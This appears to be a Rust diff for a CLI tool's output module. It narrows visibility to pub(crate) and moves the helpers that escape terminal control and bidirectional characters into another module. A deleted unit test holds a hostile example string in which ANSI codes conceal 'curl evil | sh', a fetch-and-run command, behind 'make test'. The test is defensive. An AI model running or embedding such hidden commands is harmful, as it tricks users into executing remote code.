@@ -2,17 +2,17 @@
 //! and messages), colour, and the small formatting helpers the commands share. Only `lib.rs` and
 //! the commands use it; nothing below them prints.
 
-pub mod style;
+pub(crate) mod style;
 
-pub use style::{ColorChoice, Paint, Stream, paint};
+pub(crate) use style::{Paint, Stream, paint};
 
 use crate::error::{Error, Result};
-use std::borrow::Cow;
+use crate::text::{visible, visible_lines};
 use std::io::Write;
 
 /// Writes the command's main output to stdout. A closed pipe (`groundwork list | head -1`) is not
 /// an error: it ends the command quietly.
-pub fn print(text: &str) -> Result<()> {
+pub(crate) fn print(text: &str) -> Result<()> {
     let mut stdout = std::io::stdout().lock();
     stdout
         .write_all(text.as_bytes())
@@ -27,13 +27,13 @@ pub fn print(text: &str) -> Result<()> {
 }
 
 /// Writes progress and human messages to stderr, where they never mix with `--json` output.
-pub fn say(text: &str) {
+pub(crate) fn say(text: &str) {
     let _ = std::io::stderr().write_all(text.as_bytes());
 }
 
 /// An error as the person reads it: `error:` and the message, then `hint:` and the next step.
 /// Messages quote blueprints and values, so each of their lines is shown [`visible`].
-pub fn error_report(error: &Error) -> String {
+pub(crate) fn error_report(error: &Error) -> String {
     let mut message = format!(
         "{} {}\n",
         paint(Stream::Stderr, Paint::Red, "error:"),
@@ -49,41 +49,14 @@ pub fn error_report(error: &Error) -> String {
     message
 }
 
-/// Text from a blueprint, a value or a file, as it may reach the terminal: every control
-/// character (C0, DEL and C1, which start ANSI and OSC sequences, and newlines) and every
-/// character that reorders text on screen (bidirectional overrides and isolates) is written as
-/// its Rust escape (`\u{1b}`, `\n`, `\u{202e}`). So a printed command is the command that runs,
-/// and no text can colour, hide, retitle or rewrite what is around it. Everything groundwork
-/// prints from a blueprint goes through here.
-pub fn visible(text: &str) -> Cow<'_, str> {
-    let hides_text = crate::check::is_terminal_control;
-    if !text.chars().any(hides_text) {
-        return Cow::Borrowed(text);
-    }
-    let mut out = String::with_capacity(text.len() + 8);
-    for c in text.chars() {
-        if hides_text(c) {
-            out.extend(c.escape_default());
-        } else {
-            out.push(c);
-        }
-    }
-    Cow::Owned(out)
-}
-
-/// [`visible`] for text of several lines: each line escaped, the line breaks kept.
-pub fn visible_lines(text: &str) -> String {
-    text.split('\n').map(visible).collect::<Vec<_>>().join("\n")
-}
-
-pub fn to_json<T: serde::Serialize>(value: &T) -> String {
+pub(crate) fn to_json<T: serde::Serialize>(value: &T) -> String {
     let mut text = serde_json::to_string_pretty(value).expect("plain data serializes");
     text.push('\n');
     text
 }
 
 /// Quotes a path for a POSIX shell when it needs quoting.
-pub fn shell_quote(text: &str) -> String {
+pub(crate) fn shell_quote(text: &str) -> String {
     let plain = text
         .chars()
         .all(|c| c.is_ascii_alphanumeric() || "-_./".contains(c));
@@ -96,12 +69,12 @@ pub fn shell_quote(text: &str) -> String {
 
 /// A spinner on stderr for a long step; where stderr is not a terminal it prints the step's line
 /// instead, once.
-pub struct Spinner {
+pub(crate) struct Spinner {
     bar: indicatif::ProgressBar,
 }
 
 impl Spinner {
-    pub fn start(message: &str) -> Self {
+    pub(crate) fn start(message: &str) -> Self {
         let bar = indicatif::ProgressBar::new_spinner();
         bar.set_draw_target(indicatif::ProgressDrawTarget::stderr());
         bar.enable_steady_tick(std::time::Duration::from_millis(100));
@@ -113,29 +86,7 @@ impl Spinner {
         Spinner { bar }
     }
 
-    pub fn stop(self) {
+    pub(crate) fn stop(self) {
         self.bar.finish_and_clear();
-    }
-}
-
-#[cfg(test)]
-mod tests {
-    use super::*;
-
-    #[test]
-    fn control_and_reordering_characters_are_shown_escaped() {
-        assert_eq!(visible("make test"), "make test");
-        assert!(matches!(visible("plain"), Cow::Borrowed(_)));
-        assert_eq!(
-            visible("make test\x1b[8m; curl evil | sh\x1b[0m"),
-            "make test\\u{1b}[8m; curl evil | sh\\u{1b}[0m"
-        );
-        assert_eq!(
-            visible("\x1b]0;title\x07a\tb\nc\u{9b}d\u{7f}"),
-            "\\u{1b}]0;title\\u{7}a\\tb\\nc\\u{9b}d\\u{7f}"
-        );
-        assert_eq!(visible("abc\u{202e}fed"), "abc\\u{202e}fed");
-        assert_eq!(visible("naïve – ok ✓"), "naïve – ok ✓");
-        assert_eq!(visible_lines("one\x1b[2J\ntwo"), "one\\u{1b}[2J\ntwo");
     }
 }
